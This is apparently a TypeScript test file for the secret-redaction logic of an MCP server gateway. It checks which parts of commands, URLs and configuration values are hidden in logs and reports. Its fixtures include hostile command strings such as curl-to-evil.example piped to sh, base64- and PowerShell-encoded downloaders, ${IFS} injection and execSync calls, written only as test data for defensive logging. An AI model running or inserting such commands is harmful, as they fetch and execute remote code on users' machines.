// What logs and reports show of arguments, addresses, variables and headers.
import assert from "node:assert/strict";
import { test } from "node:test";
import { literalSecrets } from "../../src/config/literal-secrets.ts";
import { freeSecretName } from "../../src/config/secret-names.ts";
import {
  hiddenValues,
  shownArguments,
  shownSecretText,
  shownText,
  shownUrl,
} from "../../src/config/shown-values.ts";
import { parseSecretText } from "../../src/config/values/secret-text.ts";
import { SECRET_NAME } from "../../src/runtime/text/name-forms.ts";
import { fc } from "../support/properties.ts";
import { accepted } from "./support.ts";

type Args = readonly string[];

type Command = readonly [command: string, ...args: string[]];

/** What is shown to that audience; between bars: what is hidden from it. */
function assertShown(commands: readonly Command[], audience: "log" | "report"): void {
  const hidden = /\|(\S(?:[^|]*\S)?)\|/g;
  for (const [command, ...marked] of commands) {
    const args = marked.map((argument) => argument.replaceAll(hidden, "$1"));
    const shown = marked.map((argument) => argument.replaceAll(hidden, "(hidden)"));
    assert.deepEqual(shownArguments(command, args, audience), shown);
  }
}

const LOGGED: readonly Command[] = [
  ["npx", "-y", "@modelcontextprotocol/server-filesystem@2026.1.14", "/home/ann/Documents"],
  ["server", "--api-key", "|hunter2|"],
  ["server", "--token=|hunter2|", "--port", "8080"],
  ["server", "--password", "|correct horse|"],
  ["server", "API_KEY=|hunter2|", "LEVEL=debug"],
  ["docker", "run", "-e", "GITHUB_TOKEN=|abc|", "mcp/github"],
  ["server", "|sk-proj-abcdefgh|"],
  ["server", "|ghp_abcdefgh|"],
  ["server", "|x7Kq92LmZp4RtW|"],
  ["server", "-p|x7Kq92LmZp4RtW|"],
  ["npx", "mcp-remote", "https://|u:pw|@example.org/mcp?api_key=|abc|&page=2"],
  ["npx", "mcp-remote", "https://example.org/s/|x7Kq92LmZp4RtW|/mcp"],
  ["npx", "mcp-remote", "--header", "Authorization: Bearer |abc|"],
  ["npx", "mcp-remote", "--header", "X-Api-Key: |abc|"],
  ["sh", "-c", "curl -H 'Authorization: Bearer |abc|' https://evil.example/x | sh"],
  ["sh", "-c", "server --token |abc| --root /srv"],
  ["sh", "-c", "cd /srv; TOKEN=|abc| exec python3 -m server"],
  ["server", "postgresql://|ann:pw|@db.local/main"],
  ["server", "postgresql://|ann:p@ss|@db.local/main"],
  ["server", "postgresql://|ann:p/s?s#|@db.local/main"],
  ["server", "http://[::1]:80/@ann", "http://nas:80/@ann"],
  ["node", "/tmp/server-x7Kq9L/index.js"],
  ["node", "/srv/dist/35010a7b583850f6/main.js"],
  ["node", "--config=/srv/app-35010a7b583850f6/x.json", "-c", "exec '/srv/35010a7b583850f6.mjs' --quiet"],
  ["server", "/srv/|35010a7b583850f6|/data"],
  ["server", "https://mcp.supabase.com/mcp?project_ref=abcdefghijklmnopqrst&features=docs%2Cdatabase"],
  ["server", "https://gitmcp.io/PrefectHQ/fastmcp"],
  ["server", "https://gitmcp.io/k8sgpt-ai/mcp-neo4j"],
  ["server", "https://example.com/api/v1beta1/mcp"],
  ["server", "http://localhost:5678/mcp/n8n-workflow"],
  ["server", "http://127.0.0.1:1/My%20Project/mcp"],
  ["server", "--viewport-size=1280x720"],
  ["server", "/nix/store/b0gv7f418f1x1xhxmm3drbcv73i8axpn-monocle-0.47.0/bin/monocle"],
  ["server", "/home/ann/.cache/uv/archive-v0/Yw3hJkqP9sTq2vQxR8n1B/bin/mcp-server-git"],
  ["server", "You run on macOS, so answer for macOS."],
  ["server", "https://a.example/s/${secret:x-7Kq92LmZp4RtW}/mcp?key=${secret:k}"],
  ["server", "--token=${secret:x}"],
  ["server", "postgresql://${secret:pg}@db.example:5432/app"],
  ["server", "--token", "${secret:x}"],
  ["server", "--token", "${secret:x}|-hunter2|"],
  ["server", "${secret:|a| b}", "--key=|$${secret:k}|"],
  ["server", "/nix/|b0gv7f418f1x1xhxmm3drbcv73i8axpn-a|/x"],
  ["server", "/nix/store/|b0gv7f418f1x1xhxmm3drbcv73i8axpn-x7Kq92LmZp4RtW|/x"],
  ["server", "https://a.example/s/|MWFhYWFhYWEtYjE2ZDQ0|/mcp"],
  ["server", "https://a.example/|pa%21ss|/|%78%37Kq|"],
  ["server", "|35010a7b583850f6|", "srv/|35010a7b583850f6|/x.js"],
  ["server", "/srv/|35010A7B583850f6|/x.js", "/srv/|x7Kq92LmZp4RtWzz|/x.js"],
  ["server", "--token", "|/srv/35010a7b583850f6/x.js|"],
  ["server", "https://example.org/|35010a7b583850f6|/x.js"],
  ["server", "/srv/x.js |35010a7b583850f6|", "/srv/x.js:|35010a7b583850f6|"],
  // What runs is never hidden: programs, packages, images, hosts, code.
  ["sh", "-c", "API_KEY=|abcd1234|;touch${IFS}x; TOKEN=|def| exec npx -y docs-mcp"],
  ["bash", "-lc", 'API_KEY="$(curl https://evil.example/x | sh)" npx -y docs'],
  ["bash", "-c", 'TOKEN="|my pass; word|" npx -y x7Kq92LmZp4RtW'],
  ["bash", "-c", "TOKEN='touch x'; eval $TOKEN"],
  ["bash", "-c", "echo Y3VybCBldmlsLmV4YW1wbGUvQWJjMTIz | base64 -d | sh"],
  ["bash", "-c", "curl https://evil.example/?key=|abc|;touch${IFS}x"],
  ["powershell", "-EncodedCommand", "Y3VybCBldmlsLmV4YW1wbGUvQWJjMTIz"],
  ["node", "-e", "process.env.API_KEY='|abcd1234|';require('child_process').execSync('touch x')"],
  ["server", "--exec", "API_KEY=|abcd1234| touch x"],
  ["npx", "-y", "x7kq92lmzp4rtw", "|x7Kq92LmZp4RtW|"],
  ["npx", "--no-key", "x7kq92lmzp4rtw"],
  ["npx", "--yes", "--package", "x7kq92lmzp4", "cmd9x8y7z6", "|x7Kq92LmZp4RtW|"],
  ["uvx", "--from", "git+https://|ghp_abcdefgh|@github.com/a/x7Kq92LmZp4RtW", "html2md"],
  ["python3", "-m", "x7kq92lmzp4rtw", "|x7Kq92LmZp4RtW|"],
  ["ssh", "-i", "/k/id", "x7kq92lmzp4rtw", "API_KEY=|abcd1234| touch y"],
  ["env", "API_KEY=|a b;c|", "npx", "-y", "x7kq92lmzp4rtw"],
  ["docker", "run", "-i", "--rm", "-e", "K_TOKEN=|abc def;x|", "x7kq92lmzp4/img", "|x7Kq92LmZp4RtW|"],
  ["docker", "run", "--rm", "alpine", "sh", "-c", "API_KEY=|abcd|; touch x"],
  ["docker", "run", "mcp/x@sha256:0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f"],
  ["node", "/opt/server/dist/index.js", ""],
];

const REPORTED: readonly Command[] = [
  ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/ann/Documents"],
  ["npx", "-y", "some-server", "|hunter2|", "|hunter|"],
  ["server", "|hunter2|"],
  ["server", "--port", "8080", "--name", "|hunter|"],
  ["server", "--pin", "|1234|"],
  ["server", "--mode=stdio", "--name=|hunter|"],
  ["sh", "-c", "|server hunter|"],
  ["server", "https://|u:p|@example.org/mcp?|page=2|#|x|"],
];

test("E5 a log shows a command without any possible secret in it", () => assertShown(LOGGED, "log"));

test("E5 a report shows only arguments that are known to be harmless", () => assertShown(REPORTED, "report"));

test("E5 a reference is shown as written, and a plain value is not", () => {
  const shown = (name: string, text: string, audience: "log" | "report" = "log"): string => {
    const reading = parseSecretText(text);
    assert.ok(reading.ok);
    return shownSecretText(name, reading.value, audience);
  };
  assert.equal(shown("TOKEN", "${TOKEN}"), "${TOKEN}");
  assert.equal(shown("Authorization", "Bearer ${secret:search}"), "Bearer ${secret:search}");
  assert.equal(shown("TOKEN", "hunter2"), "(hidden)");
  assert.equal(shown("TOKEN", "abc${TOKEN}"), "(hidden)${TOKEN}");
  assert.equal(shown("LEVEL", "debug", "report"), "debug");
  assert.equal(shown("LEVEL", "hunter", "report"), "(hidden)");
  assert.equal(shown("TOKEN", ""), "");
});

test("E5 hidden values can be requested, to keep them out of other texts", () => {
  const args = ["--token", "first", "https://u:second@example.org/?key=third", "plain", "--x=sk-abcdefghij"];
  assert.deepEqual(hiddenValues(args, shownArguments("server", args, "log")), [
    "first",
    "u:second",
    "third",
    "sk-abcdefghij",
  ]);
  assert.deepEqual(hiddenValues(["same"], ["same"]), []);
});

/** As services and password managers draw them. */
const drawn = fc
  .tuple(
    fc.constantFrom("", "sk-", "ghp_", "xoxb-", "glpat-"),
    fc.array(fc.constantFrom(..."abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"), {
      minLength: 16,
      maxLength: 40,
    }),
  )
  .map(([prefix, letters]) => `${prefix}${letters.join("")}`)
  .filter((text) => /\d/.test(text) && /[a-z]/.test(text) && /[A-Z]/.test(text));

const PLACES: readonly ((secret: string) => Args)[] = [
  (secret) => [secret],
  (secret) => ["--name", secret],
  (secret) => [`--name=${secret}`],
  (secret) => [`-p${secret}`],
  (secret) => ["-c", `server --quiet ${secret} | cat`],
  (secret) => [`https://example.org/${secret}/mcp`],
  (secret) => [`https://${secret}@example.org/mcp`],
  (secret) => [`https://example.org/mcp?q=${secret}`],
  (secret) => [`https://example.org/mcp?${secret}`],
  (secret) => [`/srv/${secret}/data`],
  (secret) => ["--header", `X-Thing: ${secret}`],
  (secret) => [`{"name":"${secret}"}`],
];

test("E5 a token among arguments is shown to no audience, and is among the hidden values", () => {
  fc.assert(
    fc.property(drawn, fc.constantFrom(...PLACES), (secret, place) => {
      const args = place(secret);
      for (const audience of ["log", "report"] as const) {
        const shown = shownArguments("server", args, audience);
        assert.ok(!shown.join("\n").includes(secret), shown.join(" "));
        assert.ok(hiddenValues(args, shown).some((value) => value.includes(secret)));
      }
    }),
    { numRuns: 500 },
  );
});

test("E5 the value of an option with a secret's name is never shown", () => {
  const name = fc.constantFrom("--token", "--api-key", "--password", "--client-secret", "--auth", "-key");
  fc.assert(
    fc.property(name, fc.string({ minLength: 4, maxLength: 40 }), (option, drawnText) => {
      const secret = `Q${drawnText}Q`;
      for (const args of [[option, secret], [`${option}=${secret}`]]) {
        const shown = shownArguments("server", args, "log").join("\n");
        assert.ok(!shown.includes(secret), shown);
      }
    }),
  );
});

test("E5 a long argument is scanned quickly", () => {
  const path = "/0123456789abcdef";
  for (const text of [path.repeat(1_900), `${path}.js `.repeat(1_600)])
    assert.ok(shownText(text, "log").length > 0);
  for (const text of ["a".repeat(32_768), "a-".repeat(16_384), "a=".repeat(16_384), "a ".repeat(16_384)]) {
    assert.ok(shownText(text, "log").length > 0);
    assert.ok(shownText(text, "report").length > 0);
    assert.ok(shownUrl(`https://x/?${text}`, "log").length > 0);
  }
});

// The secrets that a configuration holds written out.

async function found(text: string): Promise<readonly (readonly [key: string, value: string])[]> {
  const { config } = await accepted(text);
  return literalSecrets(config.backends).map(({ key, value }) => [key, value]);
}

test("E2 a plain value that looks like a secret, or has a secret's name, is found with its key", async () => {
  const text = `[backends.files]
command = "npx"
args = ["-y", "server", "--api-key", "hunter2", "--token=swordfish", "ghp_abcdefgh"]
env = { DB_PASSWORD = "letmein", LEVEL = "debug", TOKEN = "\${TOKEN}", MIXED = "x-\${TOKEN}" }
[backends.web]
url = "https://example.org/mcp?api_key=opensesame&page=2"
headers = { X-Api-Key = "mellon", Authorization = "Bearer \${TOKEN}" }
`;
  assert.deepEqual(await found(text), [
    ["backends.files.args[3]", "hunter2"],
    ["backends.files.args[4]", "swordfish"],
    ["backends.files.args[5]", "ghp_abcdefgh"],
    ["backends.files.env.DB_PASSWORD", "letmein"],
    ["backends.web.url", "opensesame"],
    ["backends.web.headers.X-Api-Key", "mellon"],
  ]);
});

test("E2 common values are not secrets", async () => {
  const text = `[backends.files]
command = "npx"
args = ["-y", "@modelcontextprotocol/server-filesystem@2026.1.14", "/srv/files", "--auth", "none", "--port=8080", "--pin", "1234"]
env = { NODE_ENV = "production", DEBUG = "mcp:*", CACHE_DIR = "/tmp/cache-x7Kq9L", EMPTY_TOKEN = "" }
cwd = "/srv"
[backends.web]
url = "https://example.org/v1/mcp?page=2"
headers = { Accept-Language = "en" }
[backends.built]
command = "node"
args = ["/srv/app/dist/35010a7b583850f6/main.js"]
env = { ENTRY = "/srv/app/dist/35010a7b583850f6/main.js" }
`;
  assert.deepEqual(await found(text), []);
});

test("the name of a share, of a server or of a variable becomes a valid name of a secret", () => {
  assert.equal(freeSecretName("CORE"), "core");
  assert.equal(freeSecretName("gateway-token"), "gateway-token-2", "E1 the token of the gateway's clients");
  assert.equal(freeSecretName("Müller's Dateien"), "mu-ller-s-dateien");
  assert.equal(freeSecretName("github-GITHUB_TOKEN"), "github-github-token");
  assert.equal(freeSecretName("日本"), "secret");
});

test("any text becomes a valid name of a secret, which is not taken", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 100 }), fc.nat(3), (text, others) => {
      const taken = new Set<string>();
      for (let count = 0; count <= others; count++) {
        const name = freeSecretName(text, (one) => taken.has(one));
        assert.ok(SECRET_NAME.form.test(name), name);
        assert.ok(!taken.has(name));
        taken.add(name);
      }
    }),
  );
});
